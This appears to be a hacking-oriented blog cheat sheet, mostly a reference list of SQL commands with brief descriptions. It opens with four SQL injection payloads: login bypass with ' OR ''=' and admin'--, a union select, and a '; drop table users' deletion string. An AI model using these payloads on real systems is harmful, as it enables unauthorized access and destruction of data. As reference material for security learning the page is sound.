[Key] SQL Inject

‘OR ” = ‘ Allows authentication without a valid username.
admin’– Authenticate as user admin without a password.
‘ union select 1, ‘user’, ‘pass’ 1– Requires knowledge of column names.
‘; drop table users– DANGEROUS! this will delete the user database if the table name is ‘users’.
ABORT — abort the current transaction
ALTER DATABASE — change a database
ALTER GROUP — add users to a group or remove users from a group
ALTER TABLE — change the definition of a table
ALTER TRIGGER — change the definition of a trigger
ALTER USER — change a database user account
ANALYZE — collect statistics about a database
BEGIN — start a transaction block
CHECKPOINT — force a transaction log checkpoint
CLOSE — close a cursor
CLUSTER — cluster a table according to an indexCOMMENT — define orchange the comment of an object
COMMIT — commit the current transaction
COPY — copy data between files and tables
CREATE AGGREGATE — define a new aggregate function
CREATE CAST — define a user-defined cast
CREATE CONSTRAINT TRIGGER — define a new constraint trigger
CREATE CONVERSION — define a user-defined conversion
CREATE DATABASE — create a new database
CREATE DOMAIN — define a new domain
CREATE FUNCTION — define a new function
CREATE GROUP — define a new user group
CREATE INDEX — define a new index
CREATE LANGUAGE — define a new procedural language
CREATE OPERATOR — define a new operator
CREATE OPERATOR CLASS — define a new operator class for indexes
CREATE RULE — define a new rewrite ruleCREATE SCHEMA — define a new schema
CREATE SEQUENCE — define a new sequence generator
CREATE TABLE — define a new table
CREATE TABLE AS — create a new table from the results of a query
CREATE TRIGGER — define a new trigger
CREATE TYPE — define a new data type
CREATE USER — define a new database user account
CREATE VIEW — define a new view
DEALLOCATE — remove a prepared query
DECLARE — define a cursor
DELETE — delete rows of a table
DROP AGGREGATE — remove a user-defined aggregate function
DROP CAST — remove a user-defined cast
DROP CONVERSION — remove a user-defined conversion
DROP DATABASE — remove a database
DROP DOMAIN — remove a user-defined domain
DROP FUNCTION — remove a user-defined function
DROP GROUP — remove a user group
DROP INDEX — remove an index
DROP LANGUAGE — remove a user-defined procedural language
DROP OPERATOR — remove a user-defined operator
DROP OPERATOR CLASS — remove a user-defined operator class
DROP RULE — remove a rewrite rule
DROP SCHEMA — remove a schema
DROP SEQUENCE — remove a sequence
DROP TABLE — remove a table
DROP TRIGGER — remove a trigger
DROP TYPE — remove a user-defined data type
DROP USER — remove a database user account
DROP VIEW — remove a view
END — commit the current transaction
EXECUTE — execute a prepared query
EXPLAIN — show the execution plan of a statementFETCH — retrieve rows from a table using a cursor
GRANT — define access privileges
INSERT — create new rows in a table
LISTEN — listen for a notification
LOAD — load or reload a shared library file
LOCK — explicitly lock a table
MOVE — position a cursor on a specified row of a table
NOTIFY — generate a notification
PREPARE — create a prepared query
REINDEX — rebuild corrupted indexes
RESET — restore the value of a run-time parameter to a default value
REVOKE — remove access privileges
ROLLBACK — abort the current transaction
SELECT — retrieve rows from a table or view
SELECT INTO — create a new table from the results of a query
SET — change a run-time parameter
SET CONSTRAINTS — set the constraint mode of the current transaction
SET SESSION AUTHORIZATION — set the session user identifier and the current useridentifier of the current session
SET TRANSACTION — set the characteristics of the current transaction
SHOW — show the value of a run-time parameter
START TRANSACTION — start a transaction block
TRUNCATE — empty a table
UNLISTEN — stop listening for a notification
UPDATE — update rows of a table
VACUUM — garbage-collect and optionally analyze a database
show processlist — view runningprocess


Popular posts from this blog

[Hack crack] Tổng hợpGoogle Dork

[Security]Internet blackout scheduled in protest of SOPA